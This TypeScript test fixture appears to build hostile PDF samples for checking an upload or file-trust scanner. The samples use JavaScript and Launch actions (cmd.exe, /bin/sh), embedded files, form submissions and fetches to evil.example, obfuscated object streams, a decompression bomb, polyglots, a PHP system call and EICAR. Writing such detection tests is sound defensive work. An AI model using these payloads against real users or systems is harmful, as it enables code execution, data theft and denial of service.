import { deflateSync } from 'node:zlib'
import { archive, bytesOf, eicar, joined, payload } from '#functions/testing/hostile-files.ts'
import { objectStream, onePage, pdfOf, streamOf } from '#functions/testing/pdfs.ts'
import type { HostileFile } from '#functions/trust/files/hostile-file.ts'

const of = (name: string, make: HostileFile['make']): HostileFile => ({ name, make, as: 'application/pdf' })

const withObject = (name: string, ...objects: readonly (string | Uint8Array)[]): HostileFile =>
  of(name, () => pdfOf([...onePage, ...objects]))

const script = '<</S/JavaScript/JS(app.alert(1))>>'

/** PDF objects that act when the file is opened, viewed or closed. */
const acts: readonly (readonly [name: string, object: string])[] = [
  ['a script', script],
  ['a script when it opens', `<</OpenAction ${script}>>`],
  ['a script when a page opens', `<</AA<</O ${script}>>>>`],
  ['a script when it is printed', `<</AA<</WP ${script}/DP ${script}>>>>`],
  ['a script by its name in the file', '<</Names<</JavaScript<</Names[(a) 5 0 R]>>>>>>'],
  ['a script with an escaped name', '<</S/J#61v#61Script/J#53(app.alert(1))>>'],
  ['a script with all of its name escaped', '<</S/#4a#61#76#61#53#63#72#69#70#74/JS(x)>>'],
  ['a script behind a comment', '<</S%x\n/JavaScript%y\n/JS(x)>>'],
  ['a program', '<</S/Launch/F(cmd.exe)>>'],
  ['a program with arguments', '<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>'],
  ['a program when it opens', '<</OpenAction<</S/Launch/F(/bin/sh)>>>>'],
  ['a file within', '<</Type/EmbeddedFile/Subtype/text#2Fhtml>>'],
  ['files within by name', '<</Names<</EmbeddedFiles<</Names[(x.exe) 5 0 R]>>>>>>'],
  ['a file on a page', '<</Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(x.docm)>>>>]>>'],
  ['a file beside a page', '<</AF[<</Type/Filespec/F(x.docm)/EF<</F 6 0 R>>>>]>>'],
  ['a file beside a page by reference', '<</AF[<</F(x.docm)/EF 6 0 R>>]>>'],
  ['a file beside a page behind a comment', '<</AF[<</F(x.docm)/E#46 %x\n<</F 6 0 R>>>>]>>'],
  ['a film', '<</Type/Annot/Subtype/RichMedia>>'],
  ['a sound or film that plays', '<</S/Rendition/R 5 0 R>>'],
  ['data that it fetches', '<</S/ImportData/F(//evil.example/x.fdf)>>'],
  ['a form that sends itself', '<</OpenAction<</S/SubmitForm/F(http://evil.example)>>>>'],
  ['a file on another machine', '<</AA<</O<</S/GoToR/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>>>>>'],
  ['a file within that it opens', '<</S/GoToE/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>'],
  ['a site that it opens', '<</OpenAction<</S/URI/URI(https://evil.example)>>>>'],
  ['a site that a page opens', '<</AA<</O<</S/URI/URI(https://evil.example)>>>>>>'],
  ['a form of the old kind', '<</AcroForm<</XFA[(template) 5 0 R]>>>>'],
]

const hidden = (name: string, entries: string, body: Uint8Array): HostileFile =>
  withObject(name, streamOf(entries, body))

const inStreams: readonly HostileFile[] = [
  ...acts.map(([name, object]) =>
    withObject(`${name}, in a compressed object`, objectStream(`4 0 ${object}`)),
  ),
  withObject(
    'a script in objects without a type',
    objectStream(`4 0 ${script}`, '/N 1/First 4/Filter/FlateDecode'),
  ),
  withObject('a script in objects without a word', objectStream(`4 0 ${script}`, '/Filter/FlateDecode')),
  hidden(
    'a script in hexadecimal',
    '/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode',
    bytesOf(`${Buffer.from(`4 0 ${script}`).toString('hex')}>`),
  ),
  hidden(
    'a script in two coats',
    '/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]',
    deflateSync(deflateSync(`4 0 ${script}`)),
  ),
  hidden('a script in LZW', '/Type/ObjStm/N 1/First 4/Filter/LZWDecode', bytesOf('\x80\x0b\x60\x50')),
  hidden(
    'a script behind a predictor',
    '/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>',
    deflateSync(`4 0 ${script}`),
  ),
  hidden(
    'objects in another file',
    '/Type/ObjStm/N 1/First 4/Filter/FlateDecode/F(//evil.example/x)',
    deflateSync('4 0 <<>>'),
  ),
  hidden(
    'objects that do not inflate',
    '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
    bytesOf('not compressed'),
  ),
  hidden('objects that are not compressed', '/Type/ObjStm/N 1/First 4', bytesOf(`4 0 ${script}`)),
  hidden(
    'a bomb of compressed objects',
    '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
    deflateSync(Buffer.alloc(100_000_000)),
  ),
  hidden('a script that only the table of objects finds', '', bytesOf(`9 0 obj ${script} endobj`)),
  withObject(
    'a kind of stream with an escaped name',
    objectStream(`4 0 ${script}`, '/Type/Obj#53tm/N 1/First 4/Filter/FlateDecode'),
  ),
]

const locked: readonly HostileFile[] = [
  of('an encrypted PDF', () => pdfOf(onePage, '/Encrypt 9 0 R')),
  of('an encrypted PDF with an escaped name', () => pdfOf(onePage, '/Encr#79pt<</Filter/Standard/V 5>>')),
]

const misshapen: readonly HostileFile[] = [
  of('a PDF that is an archive', () => joined(pdfOf(onePage), archive)),
  of('a PDF with a page in it', () => pdfOf([...onePage, `(${payload})`])),
  of('a PDF with a page in a stream', () => pdfOf([...onePage, streamOf('', bytesOf(`<html>${payload}`))])),
  of('a PDF with PHP in it', () => pdfOf([...onePage, '(<?php system("id"); ?>)'])),
  of('a PDF behind a page', () => joined(bytesOf(`<html>${payload}</html>`), pdfOf(onePage))),
  of('a PDF behind a space', () => joined(bytesOf(' '), pdfOf(onePage))),
  of('a PDF behind a GIF', () => joined(bytesOf('GIF89a'), pdfOf(onePage))),
  of('a PDF with a tail', () => joined(pdfOf(onePage), new Uint8Array(5000))),
  of('a PDF without an end', () => pdfOf(onePage).slice(0, -20)),
  of('half a PDF', () => pdfOf(onePage).slice(0, 120)),
  of('the head of a PDF', () => bytesOf('%PDF-1.7\n')),
  of('a PDF without objects', () => bytesOf('%PDF-1.7\n%%EOF')),
  of('a PDF without a root', () => bytesOf('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF')),
  of('a PDF of version 9', () => bytesOf('%PDF-9.9\n1 0 obj<<>>endobj trailer<</Root 1 0 R>>\n%%EOF')),
  of('EICAR named as a PDF', () => bytesOf(eicar)),
  of('PostScript named as a PDF', () => bytesOf('%!PS-Adobe-3.0\nshowpage')),
  of('a page named as a PDF', () => bytesOf(`<html>${payload}`)),
]

/** PDFs, or files that claim to be one, that no admin should open. None is a photo or a stock file either. */
export const hostilePdfs: readonly HostileFile[] = [
  ...acts.map(([name, object]) => withObject(name, object)),
  ...inStreams,
  ...locked,
  ...misshapen,
]
